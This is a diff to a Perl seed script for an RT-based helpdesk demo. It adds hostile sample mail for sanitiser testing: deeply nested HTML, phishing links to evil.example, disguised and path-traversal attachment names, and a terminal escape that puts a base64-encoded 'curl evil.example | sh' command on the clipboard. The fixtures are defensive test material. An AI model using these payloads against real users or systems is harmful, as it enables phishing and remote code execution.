@@ -95,7 +95,8 @@ my @ASSETS = (
 # Knowledge base: [ name, summary, body (HTML or plain text) ]
 # Bodies starting with '<' are HTML, anything else is plain text.  Articles
 # refer to each other by name in quotes; one imported article deliberately
-# carries hostile HTML so the app's sanitiser is exercised.
+# carries hostile HTML (scripts, trackers, a fake login form, tables and divs
+# nested hundreds deep) so the app's sanitiser and layout bounds are exercised.
 my @ARTICLES = (
     [
         'HP LaserJet: clearing a 13.B2 paper jam',
@@ -1005,7 +1006,7 @@ TEXT
     [
         'Imported vendor note: Zebra label printer calibration',
         'Media calibration for Zebra desktop and industrial label printers (imported from a vendor portal; contains unsafe HTML for sanitiser testing).',
-        <<'HTML',
+        <<'HTML' . _deep_footer(),
 <h3>Calibrating Zebra label printers</h3>
 <p><em>Imported from a vendor partner portal. The original page contained tracking and script code; FieldDesk must display only the text.</em></p>
 <script>alert(1)</script>
@@ -1260,9 +1261,12 @@ TEXT
 #   day (visit day relative to today; undef = not scheduled yet),
 #   start (hour, UTC), hours (visit length), due_hours (SLA due, hours from
 #   now; may be negative = overdue), assets (names from @ASSETS),
-#   body (the customer's request), history: [ kind, who, text, minutes ]
-#   where kind is 'comment' (internal) or 'correspond' (to the customer) and
-#   who is a user name ('customer' = the requestor).
+#   body (the customer's request), history: [ kind, who, text, minutes, files ]
+#   where kind is 'comment' (internal), 'correspond' (to the customer) or
+#   'mail' (the customer's mail as received, recorded without sending
+#   notifications: RT's own HTML-to-text takes seconds over hostile HTML, and
+#   a 21 MB file would go out with each), who is a user name ('customer' = the
+#   requestor) and files (optional) are [ file name, type, bytes ].
 # Rights: a technician may only write on visits they own, so `who` is the
 # owner, 'supervisor' or 'customer'.  A correspond re-opens a 'new' ticket
 # (RT's "On Correspond Open Inactive Tickets" scrip), so 'new' visits only
@@ -1479,6 +1483,69 @@ my @VISITS = (
             [ 'correspond', 'alice', "Hello Neil,\n\nSarah can log in normally again and has her documents and email. Her old profile was damaged after last Friday's power cut, so I set up a fresh one and copied her files across.\n\nSarah will check over the next few days whether any files or shortcuts are missing. I will close this once she confirms.\n\nAlice", 10 ],
             [ 'comment', 'alice', "Stalled: waiting for Sarah to confirm nothing is missing (Sage shortcuts?). ProDesk out of warranty since 03/2026 and SMART shows reallocated sectors: recommend SSD replacement, quote requested from the office.", 15 ],
             [ 'comment', 'supervisor', "Quote for SSD and reimage sent to Neil. Keep stalled until he replies.", 5 ],
+        ],
+    },
+
+    # ----- alice: hostile input, so the demo shows it handled -------------
+    # Real mail carries all of this: HTML that freezes a renderer (400 tables
+    # inside each other, 5 000 nested divs, a word of 20 000 letters), links
+    # whose text names the helpdesk but lead elsewhere, terminal escape
+    # sequences, markup in a subject, a pasted log too long to show at once,
+    # attachments that are programs in disguise and one larger than the
+    # automatic download limit (20 MB).  Days 5 and 6 at a site of their own,
+    # so today's and tomorrow's visits and the other sites stay as they are.
+    {
+        subject   => 'Reception PC freezes on a <table> newsletter & "Pay now" mail',
+        owner     => 'alice',
+        requestor => 'office@quayside-print.example',
+        site      => 'Quayside Print & Copy',
+        address   => "2 Camber Quay\nOld Portsmouth\nPO1 2AB",
+        contact   => 'Tom Reyes, +44 23 9200 8810, office@quayside-print.example',
+        priority  => 45,
+        status    => 'open',
+        day       => 5,
+        start     => 10,
+        hours     => 1.5,
+        due_hours => 122,
+        assets    => [],
+        body      => "Since yesterday the reception PC freezes whenever someone opens a newsletter in Outlook. I am forwarding it.\nTom",
+        history   => [
+            [ 'mail', 'customer', _hostile_newsletter(), 0 ],
+            [ 'comment', 'supervisor', "The customer's mail above is the one that froze their PC (and our old helpdesk viewer). Do not click its links; it is here so you can see it on site.", 0 ],
+            [ 'mail', 'customer', "Printer status after the reset:\n\e]0;FieldDesk: session expired, run fielddesk login\a\e]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9wd24gfCBzaA==\aAll jobs printed fine.\rPLEASE CALL +44 20 7946 0999 TO RENEW YOUR SUPPORT CONTRACT\e[2K\nTom", 0 ],
+            [ 'mail', 'customer', _pasted_event_log(), 0 ],
+        ],
+    },
+    {
+        subject   => 'Scans, an invoice and a "printer fix" tool sent by the customer',
+        owner     => 'alice',
+        requestor => 'office@quayside-print.example',
+        site      => 'Quayside Print & Copy',
+        address   => "2 Camber Quay\nOld Portsmouth\nPO1 2AB",
+        contact   => 'Tom Reyes, +44 23 9200 8810, office@quayside-print.example',
+        priority  => 40,
+        status    => 'new',
+        day       => 6,
+        start     => 13,
+        hours     => 1,
+        due_hours => 150,
+        assets    => [],
+        body      => "Hi,\nthe printer company mailed us scans of the delivery notes, an invoice and a tool to fix the printer. I am forwarding them.\nTom",
+        history   => [
+            [
+                'mail', 'customer', "Here they are. Can you run the fix on the reception PC when you come?\nTom", 0,
+                [
+                    [ 'scan-0042.pdf', 'application/pdf', _pdf( 'Delivery note 0042', 0 ) ],
+                    [ 'delivery-notes-march.pdf', 'application/pdf', _pdf( 'Delivery notes, March (scanned)', 21 * 1024 * 1024 ) ],
+                    [ 'invoice.pdf.exe', 'application/octet-stream', "MZ (sample: not a real program)\n" ],
+                    [ 'Quarterly report.lnk', 'application/octet-stream', "L (sample shortcut)\n" ],
+                    [ 'update.hta', 'application/hta', "<html><!-- sample: an HTML application would run here --></html>\n" ],
+                    [ 'printer-fix.desktop', 'application/x-desktop', "[Desktop Entry]\nType=Application\nName=Printer fix (sample)\nExec=true\n" ],
+                    [ "..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat", 'application/x-bat', "rem sample: a batch file aimed at the Startup folder\n" ],
+                    [ "contract-\x{202E}fdp.exe", 'application/octet-stream', "MZ (sample: right-to-left trick, really .exe)\n" ],
+                ],
+            ],
+            [ 'comment', 'supervisor', "Do NOT run the 'fix' tool or open the .exe/.lnk/.hta: the printer company never sent them. Check the PC for anything else from that mail.", 0 ],
         ],
     },
 
@@ -1975,6 +2042,75 @@ sub _mime {
     );
 }
 
+sub _deep_footer {
+    return '<table><tr><td>' x 300 . 'Zebra partner portal: layout tables 300 deep' . '</td></tr></table>' x 300
+        . '<div>' x 3000 . 'Imported page footer, 3 000 divs deep' . '</div>' x 3000;
+}
+
+sub _hostile_newsletter {
+    my $tables = '<table><tr><td>' x 400 . 'Spring offers inside' . '</td></tr></table>' x 400;
+    my $divs   = '<div>' x 5000 . 'Unsubscribe' . '</div>' x 5000;
+    return join "\n",
+        '<p><b>Your March statement is ready.</b> Sign in to the helpdesk to see it:',
+        '<a href="https://helpdesk-login.evil.example/rt/">https://helpdesk.fielddesk.test/Ticket/Display.html?id=42</a></p>',
+        $tables, $divs,
+        '<p><a href="mailto:refunds@evil.example?subject=Card%20details">Reply to claim a refund</a></p>',
+        '<p>Tracking code: ' . ( 'Q' x 20_000 ) . '</p>';
+}
+
+sub _pasted_event_log {
+    my @lines = map {
+        sprintf( '2026-03-%02d %02d:%02d:%02d  13.B2.D1  Paper jam, fuser area  page count %d  tray 2', 1 + $_ % 28, $_ % 24, $_ % 60, ( $_ * 7 ) % 60, 48_210 - $_ )
+    } 1 .. 2500;
+    return "Here is the whole event log from the printer's web page:\n\n" . join( "\n", @lines ) . "\n\nTom";
+}
+
+# A one-page PDF, padded with comment lines to about $size bytes (a scan's size
+# without a scan's bytes: ASCII only, so RT stores it as it is).
+sub _pdf {
+    my ( $title, $size ) = @_;
+    my $text    = "BT /F1 22 Tf 72 760 Td ($title) Tj 0 -34 Td /F1 12 Tf (FieldDesk sample file.) Tj ET";
+    my @objects = (
+        '<< /Type /Catalog /Pages 2 0 R >>',
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
+        '<< /Length ' . length($text) . " >>\nstream\n$text\nendstream",
+        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    );
+    my $pdf = "%PDF-1.4\n";
+    my @offsets;
+    for my $n ( 1 .. @objects ) {
+        push @offsets, length $pdf;
+        $pdf .= "$n 0 obj\n$objects[$n - 1]\nendobj\n";
+    }
+    my $pad = "% scanned page data would stand here in a real scan of the delivery notes\n";
+    $pdf .= $pad x int( ( $size - length $pdf ) / length $pad ) if $size > length $pdf;
+    my $xref = length $pdf;
+    $pdf .= "xref\n0 " . ( @objects + 1 ) . "\n0000000000 65535 f \n";
+    $pdf .= sprintf( "%010d 00000 n \n", $_ ) for @offsets;
+    return $pdf . "trailer\n<< /Size " . ( @objects + 1 ) . " /Root 1 0 R >>\nstartxref\n$xref\n%%EOF\n";
+}
+
+# A message with files (names as UTF-8: RT decodes them so; MIME-tools quotes
+# backslashes and quotes itself).
+sub _mime_with_files {
+    my ( $text, $files ) = @_;
+    return _mime($text) unless $files && @$files;
+    my $entity = MIME::Entity->build( Type => 'multipart/mixed' );
+    $entity->add_part( _mime($text) );
+    for my $file (@$files) {
+        my ( $name, $type, $data ) = @$file;
+        $entity->attach(
+            Type        => $type,
+            Filename    => Encode::encode( 'UTF-8', $name ),
+            Data        => [$data],
+            Encoding    => 'base64',
+            Disposition => 'attachment',
+        );
+    }
+    return $entity;
+}
+
 sub _create_assets {
     my $catalog = RT::Catalog->new( RT->SystemUser );
     $catalog->Load('Field Equipment');
@@ -2050,7 +2186,7 @@ sub _create_visit {
     }
 
     for my $entry ( @{ $visit->{history} || [] } ) {
-        my ( $kind, $who, $text, $minutes ) = @$entry;
+        my ( $kind, $who, $text, $minutes, $files ) = @$entry;
         my $actor = $who eq 'customer'
             ? do { my $u = RT::User->new( RT->SystemUser ); $u->LoadByEmail( $visit->{requestor} ); $u }
             : _user($who);
@@ -2059,9 +2195,11 @@ sub _create_visit {
         my $method = $kind eq 'correspond' ? 'Correspond' : 'Comment';
         # Requestors hold no rights on the queue (their mail would arrive
         # through the mail gateway), so record their replies directly.
-        my ( $ok, $err ) = $who eq 'customer'
-            ? $as_actor->_RecordNote( NoteType => 'Correspond', MIMEObj => _mime($text) )
-            : $as_actor->$method( MIMEObj => _mime($text), TimeTaken => $minutes || 0 );
+        my ( $ok, $err ) =
+              $kind eq 'mail'
+            ? $as_actor->_NewTransaction( Type => 'Correspond', MIMEObj => _mime_with_files( $text, $files ), ActivateScrips => 0 )
+            : $who eq 'customer' ? $as_actor->_RecordNote( NoteType => 'Correspond', MIMEObj => _mime($text) )
+            :                      $as_actor->$method( MIMEObj => _mime($text), TimeTaken => $minutes || 0 );
         die "visit '$visit->{subject}' $kind by $who: $err\n" unless $ok;
     }
 
